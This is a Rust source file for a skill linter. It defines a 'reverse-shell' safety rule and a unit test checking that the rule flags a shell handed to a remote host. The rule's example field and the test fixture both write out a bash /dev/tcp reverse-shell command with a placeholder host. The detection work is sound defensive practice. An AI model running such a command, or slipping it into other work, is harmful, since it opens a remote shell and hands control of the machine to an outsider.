//! Text or a script hands a shell to a remote host.

use skill_diagnostics::{Code, Diagnostic};

use crate::context::Context;
use crate::rule::{Check, Group, Levels, Rule};

pub(crate) const RULE: Rule = Rule {
    code: Code("reverse-shell"),
    group: Group::Safety,
    levels: Levels::ADVICE,
    what: "Text or a script hands a shell to a remote host.",
    why: "It gives the machine away.",
    example: "bash -i >& /dev/tcp/…",
    source: "docs/design/security.md, \"Signals\": 0 of 256 ordinary skills",
    check: Check::Skill(check),
};

fn check(cx: &Context<'_>) -> Vec<Diagnostic> {
    super::sources::signal_findings(cx, RULE.code)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;

    #[test]
    fn finds_it_in_any_text() {
        let mut files = body("Nothing here.\n");
        add(
            &mut files,
            "references/a.md",
            b"bash -i >& /dev/tcp/h/1 0>&1",
        );
        check_rule(
            &RULE,
            &files,
            &["references/a.md:1:1 a shell that is handed to a remote host"],
        );
    }
}
